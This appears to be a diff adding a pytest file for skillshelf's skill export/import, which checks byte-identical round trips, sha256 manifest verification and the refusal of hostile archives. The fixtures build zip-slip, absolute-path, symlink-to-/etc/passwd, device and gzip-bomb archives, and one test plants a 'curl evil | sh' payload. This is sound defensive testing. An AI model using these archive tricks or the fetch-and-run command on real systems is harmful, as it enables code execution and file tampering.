@@ -1,0 +1,404 @@
+"""`skillshelf export / import`: the round trip is byte for byte, the manifest's sha256 is
+checked, a name already taken is never overwritten silently, and hostile archives (paths
+out of the folder, absolute paths, links, devices, too big) are refused before anything is
+written."""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import shutil
+import stat
+import subprocess
+import sys
+import tarfile
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from skillshelf import Library
+from skillshelf import archive as ar
+from skillshelf.embeddings.fake import FakeEmbedder
+from skillshelf.errors import ConflictError, NotFoundError, ValidationError
+
+from conftest import write_skill
+
+SCRIPT = Path(sys.executable).with_name("skillshelf")
+if not SCRIPT.exists():
+    SCRIPT = Path(shutil.which("skillshelf") or SCRIPT)
+
+
+def open_lib(home: Path, **kw) -> Library:
+    return Library(home, embedder=FakeEmbedder(), auto_sync=False, **kw)
+
+
+@pytest.fixture
+def src(tmp_path: Path):
+    lib = Library.init(tmp_path / "src", embedder=FakeEmbedder(), auto_sync=False)
+    ws = lib.config.workspace
+    d = ws / "docker-multi-stage-build"
+    (d / "scripts").mkdir()
+    (d / "scripts" / "check.sh").write_text("#!/bin/sh\necho ok\n")
+    (d / "scripts" / "check.sh").chmod(0o755)
+    (d / "references").mkdir()
+    (d / "references" / "notes.md").write_bytes("ünïcode notes\r\nwith CRLF\r\n".encode())
+    (d / ".DS_Store").write_bytes(b"junk")
+    # a CRLF skill file: bytes must survive as they are
+    write_skill(ws, "crlf-skill", description="A skill written on Windows")
+    p = ws / "crlf-skill" / "SKILL.md"
+    p.write_bytes(p.read_bytes().replace(b"\n", b"\r\n"))
+    lib.sync()
+    yield lib
+    lib.close()
+
+
+def tree(folder: Path) -> dict[str, bytes]:
+    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*"))
+            if p.is_file() and not p.name.startswith(".")}
+
+
+@pytest.mark.parametrize("target", ["out.zip", "out.tar.gz", "out.tgz", "outdir"])
+def test_round_trip_is_byte_identical(src, tmp_path, target):
+    to = tmp_path / target
+    rep = src.export_skills(all_skills=True, to=to)
+    assert {s["name"] for s in rep.skills} == {"cors-fix-nextjs-api", "docker-multi-stage-build",
+                                              "git-conventional-commits", "crlf-skill"}
+    dest = open_lib(tmp_path / "fresh")
+    imp = dest.import_skills(to)
+    assert imp.ok and imp.counts == {"new": 4}, imp.as_dict()
+    for name in ("cors-fix-nextjs-api", "docker-multi-stage-build", "git-conventional-commits", "crlf-skill"):
+        a = src.config.workspace / name
+        b = dest.config.workspace / name
+        assert tree(a) == tree(b), name
+        assert (b / "SKILL.md").read_bytes() == (a / "SKILL.md").read_bytes()
+    assert os.access(dest.config.workspace / "docker-multi-stage-build" / "scripts" / "check.sh", os.X_OK)
+    assert not (dest.config.workspace / "docker-multi-stage-build" / ".DS_Store").exists()
+    assert oct(stat.S_IMODE((dest.config.workspace / "crlf-skill").stat().st_mode)) != oct(0o700)
+    assert dest.count() == 4 and dest.get("crlf-skill").description == "A skill written on Windows"
+    assert not (dest.config.home / ".import-staging").exists()
+    # importing again changes nothing
+    again = dest.import_skills(to)
+    assert again.counts == {"unchanged": 4} and again.ok
+
+
+def test_manifest_lists_names_ids_versions_and_hashes(src, tmp_path):
+    src.export_skills(["docker-multi-stage-build", "workspace:cors-fix-nextjs-api"], to=tmp_path / "o")
+    m = json.loads((tmp_path / "o" / "manifest.json").read_text())
+    assert m["format"] == "skillshelf-export" and m["format_version"] == 1
+    by = {s["name"]: s for s in m["skills"]}
+    assert set(by) == {"docker-multi-stage-build", "cors-fix-nextjs-api"}
+    d = by["docker-multi-stage-build"]
+    assert d["id"] == "workspace:docker-multi-stage-build" and d["version"] == 1
+    assert set(d["files"]) == {"SKILL.md", "scripts/check.sh", "references/notes.md"}
+    data = (tmp_path / "o" / "docker-multi-stage-build" / "references" / "notes.md").read_bytes()
+    assert d["files"]["references/notes.md"]["sha256"] == ar.sha256(data)
+
+
+def test_tampered_files_are_refused(src, tmp_path):
+    out = tmp_path / "o"
+    src.export_skills(all_skills=True, to=out)
+    (out / "cors-fix-nextjs-api" / "SKILL.md").write_text("---\nname: cors-fix-nextjs-api\ndescription: evil\n---\nx\n")
+    (out / "git-conventional-commits" / "payload.sh").write_text("curl evil | sh\n")
+    dest = open_lib(tmp_path / "fresh")
+    rep = dest.import_skills(out)
+    st = {c.name: c for c in rep.skills}
+    assert st["cors-fix-nextjs-api"].status == "refused" and "sha256" in st["cors-fix-nextjs-api"].message
+    assert st["git-conventional-commits"].status == "refused" and "not listed" in st["git-conventional-commits"].message
+    assert st["docker-multi-stage-build"].status == "new"
+    assert not rep.ok
+    assert not (dest.config.workspace / "cors-fix-nextjs-api").exists()
+    assert (dest.config.workspace / "docker-multi-stage-build").exists()
+
+
+def test_clash_is_skipped_and_replace_makes_a_new_version(src, tmp_path):
+    out = tmp_path / "o.zip"
+    src.export_skills(["git-conventional-commits"], to=out)
+    dest = Library.init(tmp_path / "dest", embedder=FakeEmbedder(), auto_sync=False)
+    dest.sync()
+    mine = dest.config.workspace / "git-conventional-commits" / "SKILL.md"
+    mine.write_text(mine.read_text().replace("Conventional Commits format", "house format"))
+    dest.sync()
+    before = mine.read_bytes()
+    rep = dest.import_skills(out, dry_run=True)
+    assert rep.skills[0].status == "clash" and "--replace" in rep.skills[0].message
+    rep = dest.import_skills(out)
+    assert rep.skills[0].status == "clash" and not rep.ok and mine.read_bytes() == before
+    rep = dest.import_skills(out, replace=True, dry_run=True)
+    assert rep.skills[0].status == "replace" and mine.read_bytes() == before
+    rep = dest.import_skills(out, replace=True)
+    assert rep.ok and rep.skills[0].status == "replace" and rep.skills[0].version == 2
+    rec = dest.get("git-conventional-commits")
+    assert rec.version == 2 and "Conventional Commits format" in rec.description
+    assert 1 in dest.history("git-conventional-commits")["versions"]   # the old text is kept
+
+
+def test_replace_refuses_when_fix_cannot_carry_the_change(src, tmp_path):
+    out = tmp_path / "o"
+    src.export_skills(["docker-multi-stage-build"], to=out)
+    dest = Library.init(tmp_path / "dest", embedder=FakeEmbedder(), auto_sync=False)
+    d = dest.config.workspace / "docker-multi-stage-build"
+    (d / "references").mkdir()
+    (d / "references" / "notes.md").write_text("my own notes")
+    dest.sync()
+    rep = dest.import_skills(out, replace=True)
+    c = rep.skills[0]
+    assert c.status == "clash" and "references/notes.md" in c.message and "skillshelf delete" in c.message
+    assert (d / "references" / "notes.md").read_text() == "my own notes"
+
+
+def test_a_read_only_root_clash(src, tmp_path):
+    out = tmp_path / "o"
+    src.export_skills(["cors-fix-nextjs-api"], to=out)
+    other = tmp_path / "team"
+    write_skill(other, "cors-fix-nextjs-api", description="Team version of the CORS fix")
+    dest = open_lib(tmp_path / "dest", roots=[other])
+    dest.sync()
+    rep = dest.import_skills(out)
+    assert rep.skills[0].status == "clash" and "team:cors-fix-nextjs-api" in rep.skills[0].message
+    assert not (dest.config.workspace / "cors-fix-nextjs-api").exists()
+
+
+def test_invalid_skills_are_reported_and_the_rest_imported(tmp_path):
+    srcdir = tmp_path / "in"
+    write_skill(srcdir, "good-one", description="fine")
+    write_skill(srcdir, "Bad Name", name="Bad Name", description="spaces")
+    (srcdir / "no-desc").mkdir()
+    (srcdir / "no-desc" / "SKILL.md").write_text("---\nname: no-desc\n---\nbody\n")
+    (srcdir / "README.md").write_text("not a skill")
+    dest = open_lib(tmp_path / "dest")
+    rep = dest.import_skills(srcdir)
+    st = {c.name: c.status for c in rep.skills}
+    assert st == {"good-one": "new", "Bad Name": "invalid", "no-desc": "invalid"}
+    assert any("outside any skill folder" in n for n in rep.notes)
+    assert [r.name for r in dest.list()] == ["good-one"]
+
+
+def test_a_single_skill_folder_and_the_dry_run(tmp_path):
+    one = tmp_path / "solo-skill"
+    write_skill(tmp_path, "solo-skill", description="one skill on its own")
+    dest = open_lib(tmp_path / "dest")
+    rep = dest.import_skills(one, dry_run=True)
+    assert rep.counts == {"new": 1} and rep.dry_run and not (dest.config.workspace / "solo-skill").exists()
+    assert dest.import_skills(one).counts == {"new": 1}
+    assert (dest.config.workspace / "solo-skill" / "SKILL.md").exists()
+
+
+def test_as_root_for_an_archive_and_a_folder(src, tmp_path):
+    out = tmp_path / "team-skills.tar.gz"
+    src.export_skills(all_skills=True, to=out)
+    dest = open_lib(tmp_path / "dest")
+    dry = dest.import_skills(out, mode="root", dry_run=True)
+    assert dry.root and not Path(dry.root).exists()
+    rep = dest.import_skills(out, mode="root")
+    assert rep.ok and rep.counts == {"root": 4}
+    root = Path(rep.root)
+    assert root.parent == dest.config.home / "imports" and root.name == "team-skills"
+    assert str(root) in dest.configured_roots() and dest.count() == 4
+    assert dest.get("crlf-skill").kind == "other"          # read-only: not in the workspace
+    assert not list(dest.config.workspace.iterdir())
+    folder = tmp_path / "exported"
+    src.export_skills(["crlf-skill"], to=folder)
+    rep = dest.import_skills(folder, mode="root")
+    assert rep.root == str(folder.resolve()) and str(folder.resolve()) in dest.configured_roots()
+    assert rep.skills[0].status == "root" and rep.skills[0].existing == "team-skills:crlf-skill"
+    with pytest.raises(ValidationError, match="home"):
+        dest.import_skills(dest.config.home, mode="root")
+    with pytest.raises(ValidationError, match="--replace"):
+        dest.import_skills(folder, mode="root", replace=True)
+
+
+def test_export_errors(src, tmp_path):
+    (tmp_path / "taken.zip").write_text("x")
+    with pytest.raises(ConflictError, match="exists"):
+        src.export_skills(["crlf-skill"], to=tmp_path / "taken.zip")
+    (tmp_path / "full").mkdir()
+    (tmp_path / "full" / "x").write_text("x")
+    with pytest.raises(ConflictError, match="not an empty folder"):
+        src.export_skills(["crlf-skill"], to=tmp_path / "full")
+    with pytest.raises(NotFoundError, match="no skill named"):
+        src.export_skills(["no-such-skill"], to=tmp_path / "a.zip")
+    with pytest.raises(ValidationError, match="no skills named"):
+        src.export_skills([], to=tmp_path / "a.zip")
+    with pytest.raises(NotFoundError, match="does not exist"):
+        src.export_skills(["crlf-skill"], to=tmp_path / "no" / "dir" / "a.zip")
+    assert not (tmp_path / "a.zip").exists()
+
+
+# --- hostile archives --------------------------------------------------------------------------------
+
+GOOD = b"---\nname: fine\ndescription: a fine skill\n---\nbody\n"
+
+
+def make_zip(path: Path, members: list[tuple[str, bytes, int | None]]) -> Path:
+    with zipfile.ZipFile(path, "w") as zf:
+        for name, data, mode in members:
+            zi = zipfile.ZipInfo(name)
+            if mode is not None:
+                zi.create_system = 3
+                zi.external_attr = (mode & 0xFFFF) << 16
+            zf.writestr(zi, data)
+    return path
+
+
+def make_tar(path: Path, members: list[tarfile.TarInfo | tuple[str, bytes]]) -> Path:
+    with tarfile.open(path, "w:gz") as tf:
+        for m in members:
+            if isinstance(m, tarfile.TarInfo):
+                tf.addfile(m)
+            else:
+                ti = tarfile.TarInfo(m[0])
+                ti.size = len(m[1])
+                tf.addfile(ti, io.BytesIO(m[1]))
+    return path
+
+
+def tar_member(name: str, kind: bytes, linkname: str = "") -> tarfile.TarInfo:
+    ti = tarfile.TarInfo(name)
+    ti.type = kind
+    ti.linkname = linkname
+    return ti
+
+
+HOSTILE = {
+    "zip-slip": (lambda p: make_zip(p / "a.zip", [("fine/SKILL.md", GOOD, None), ("../evil.sh", b"x", None)]),
+                 "climbs out"),
+    "zip-slip-nested": (lambda p: make_zip(p / "a.zip", [("fine/../../evil", b"x", None)]), "climbs out"),
+    "absolute": (lambda p: make_zip(p / "a.zip", [("/etc/cron.d/evil", b"x", None)]), "absolute path"),
+    "drive": (lambda p: make_zip(p / "a.zip", [("C:/evil", b"x", None)]), "absolute path"),
+    "backslash": (lambda p: make_zip(p / "a.zip", [("fine\\..\\..\\evil", b"x", None)]), "backslash"),
+    "zip-symlink": (lambda p: make_zip(p / "a.zip", [("fine/SKILL.md", GOOD, None),
+                                                     ("fine/link", b"/etc/passwd", 0o120777)]), "symbolic link"),
+    "zip-device": (lambda p: make_zip(p / "a.zip", [("fine/dev", b"", 0o020666)]), "special file"),
+    "tar-symlink": (lambda p: make_tar(p / "a.tar.gz", [("fine/SKILL.md", GOOD),
+                                                        tar_member("fine/link", tarfile.SYMTYPE, "/etc/passwd")]),
+                    "symbolic link"),
+    "tar-hardlink": (lambda p: make_tar(p / "a.tar.gz", [("fine/SKILL.md", GOOD),
+                                                         tar_member("fine/h", tarfile.LNKTYPE, "fine/SKILL.md")]),
+                     "hard link"),
+    "tar-device": (lambda p: make_tar(p / "a.tar.gz", [tar_member("fine/null", tarfile.CHRTYPE)]), "device file"),
+    "tar-fifo": (lambda p: make_tar(p / "a.tar.gz", [tar_member("fine/pipe", tarfile.FIFOTYPE)]), "FIFO"),
+    "tar-slip": (lambda p: make_tar(p / "a.tar.gz", [("../../evil", b"x")]), "climbs out"),
+    "tar-absolute": (lambda p: make_tar(p / "a.tar.gz", [("/tmp/evil", b"x")]), "absolute path"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE))
+def test_hostile_archives_are_refused_and_nothing_written(tmp_path, case):
+    build, words = HOSTILE[case]
+    archive = build(tmp_path)
+    dest = open_lib(tmp_path / "dest")
+    for mode in ("copy", "root"):
+        with pytest.raises(ar.ArchiveRefused) as exc:
+            dest.import_skills(archive, mode=mode)
+        assert words in exc.value.message and "nothing was written" in str(exc.value)
+    assert list(dest.config.workspace.iterdir()) == []
+    assert not (dest.config.home / "imports").exists() and not (dest.config.home / ".import-staging").exists()
+    assert not (tmp_path / "evil.sh").exists() and not (tmp_path / "evil").exists()
+
+
+def test_oversize_archives_are_refused(tmp_path, monkeypatch):
+    dest = open_lib(tmp_path / "dest")
+    big = make_zip(tmp_path / "big.zip", [("fine/SKILL.md", GOOD, None), ("fine/blob.bin", b"\0" * 5000, None)])
+    monkeypatch.setattr(ar, "MAX_FILE_BYTES", 4000)
+    with pytest.raises(ar.ArchiveRefused, match="limit per file"):
+        dest.import_skills(big)
+    monkeypatch.setattr(ar, "MAX_FILE_BYTES", 10_000)
+    monkeypatch.setattr(ar, "MAX_TOTAL_BYTES", 3000)
+    with pytest.raises(ar.ArchiveRefused, match="unpacks to more than"):
+        dest.import_skills(big)
+    # a gzip bomb is stopped while it is being unpacked
+    bomb = make_tar(tmp_path / "bomb.tar.gz", [("fine/SKILL.md", GOOD), ("fine/zeros", b"\0" * 200_000)])
+    assert bomb.stat().st_size < 5000
+    monkeypatch.setattr(ar, "MAX_FILE_BYTES", 1_000_000)
+    monkeypatch.setattr(ar, "MAX_TOTAL_BYTES", 50_000)
+    with pytest.raises(ar.ArchiveRefused, match="more than"):
+        dest.import_skills(bomb)
+    monkeypatch.setattr(ar, "MAX_TOTAL_BYTES", 10_000_000)
+    many = make_zip(tmp_path / "many.zip", [(f"fine/f{i}.md", b"x", None) for i in range(30)])
+    monkeypatch.setattr(ar, "MAX_MEMBERS", 20)
+    with pytest.raises(ar.ArchiveRefused, match="more than 20 members"):
+        dest.import_skills(many)
+    monkeypatch.setattr(ar, "MAX_ARCHIVE_BYTES", 100)
+    with pytest.raises(ar.ArchiveRefused, match="the limit is 100"):
+        dest.import_skills(big)
+    assert list(dest.config.workspace.iterdir()) == []
+
+
+def test_not_an_archive(tmp_path):
+    junk = tmp_path / "junk.zip"
+    junk.write_bytes(b"PK\x03\x04 but not really a zip")
+    dest = open_lib(tmp_path / "dest")
+    with pytest.raises(ValidationError, match="not a readable zip"):
+        dest.import_skills(junk)
+    (tmp_path / "x.bin").write_bytes(b"\x00\x01 random")
+    with pytest.raises(ValidationError, match="neither a zip nor a tar"):
+        dest.import_skills(tmp_path / "x.bin")
+    with pytest.raises(NotFoundError):
+        dest.import_skills(tmp_path / "missing.zip")
+    empty = make_zip(tmp_path / "empty.zip", [("readme.txt", b"hi", None)])
+    with pytest.raises(ValidationError, match="holds no skill"):
+        dest.import_skills(empty)
+    bad_manifest = make_zip(tmp_path / "m.zip", [("manifest.json", b"{\"format\": \"other\"}", None),
+                                                ("fine/SKILL.md", GOOD, None)])
+    with pytest.raises(ar.ArchiveRefused, match="not a skillshelf manifest"):
+        dest.import_skills(bad_manifest)
+
+
+def test_a_linked_file_in_a_folder_is_left_out(tmp_path):
+    srcdir = tmp_path / "in"
+    write_skill(srcdir, "linky", description="has a link")
+    (tmp_path / "secret").write_text("secret")
+    (srcdir / "linky" / "secret.txt").symlink_to(tmp_path / "secret")
+    dest = open_lib(tmp_path / "dest")
+    rep = dest.import_skills(srcdir)
+    assert rep.counts == {"new": 1} and any("a link" in n for n in rep.notes)
+    assert not (dest.config.workspace / "linky" / "secret.txt").exists()
+
+
+# --- the console script ------------------------------------------------------------------------------
+
+def sk(*args: str, home: Path) -> subprocess.CompletedProcess:
+    e = {k: v for k, v in os.environ.items() if not k.startswith("SKILLSHELF_")}
+    e.update({"SKILLSHELF_EMBEDDER": "none", "COLUMNS": "200"})
+    return subprocess.run([str(SCRIPT), "--home", str(home), *args], capture_output=True, text=True, env=e,
+                          timeout=120)
+
+
+def test_cli_round_trip_and_hostile_archive(tmp_path):
+    a, b = tmp_path / "a", tmp_path / "b"
+    assert sk("init", home=a).returncode == 0
+    out = tmp_path / "all.zip"
+    p = sk("export", "--all", "--to", str(out), home=a)
+    assert p.returncode == 0, p.stderr
+    assert "exported 3 skills" in p.stdout and out.exists()
+    p = sk("import", str(out), "--dry-run", home=b)
+    assert p.returncode == 0 and "would import" in p.stdout and "nothing was written" in p.stdout
+    p = sk("import", str(out), home=b)
+    assert p.returncode == 0, p.stderr
+    assert "3 new" in p.stdout
+    for name in ("cors-fix-nextjs-api", "docker-multi-stage-build", "git-conventional-commits"):
+        assert (a / "skills" / name / "SKILL.md").read_bytes() == (b / "skills" / name / "SKILL.md").read_bytes()
+    p = sk("list", "--json", home=b)
+    assert len(json.loads(p.stdout)) == 3
+    # a clash: exit 1, the report names it, the file is untouched
+    target = b / "skills" / "cors-fix-nextjs-api" / "SKILL.md"
+    target.write_text(target.read_text().replace("Fix CORS errors", "Fix CORS problems"))
+    p = sk("import", str(out), home=b)
+    assert p.returncode == 1 and "clash" in p.stdout and "--replace" in p.stderr and "Traceback" not in p.stderr
+    assert "Fix CORS problems" in target.read_text()
+    # a hostile archive: one line, exit 1, nothing written
+    evil = make_zip(tmp_path / "evil.zip", [("fine/SKILL.md", GOOD, None), ("../../evil.sh", b"x", None)])
+    p = sk("import", str(evil), home=b)
+    assert p.returncode == 1 and p.stdout == ""
+    lines = p.stderr.strip().splitlines()
+    assert len(lines) == 1 and "zip-slip" in lines[0] and "nothing was written" in lines[0]
+    assert not (b / "skills" / "fine").exists()
+    # usage errors: exit 2
+    assert sk("export", "--to", str(tmp_path / "x.zip"), home=a).returncode == 2
+    assert sk("export", "cors-fix-nextjs-api", "--all", "--to", str(tmp_path / "x.zip"), home=a).returncode == 2
+    assert sk("export", "cors-fix-nextjs-api", home=a).returncode == 2
+    assert sk("import", str(out), "--as-root", "--copy", home=b).returncode == 2
+    p = sk("export", "nope", "--to", str(tmp_path / "x.zip"), home=a)
+    assert p.returncode == 1 and len(p.stderr.strip().splitlines()) == 1
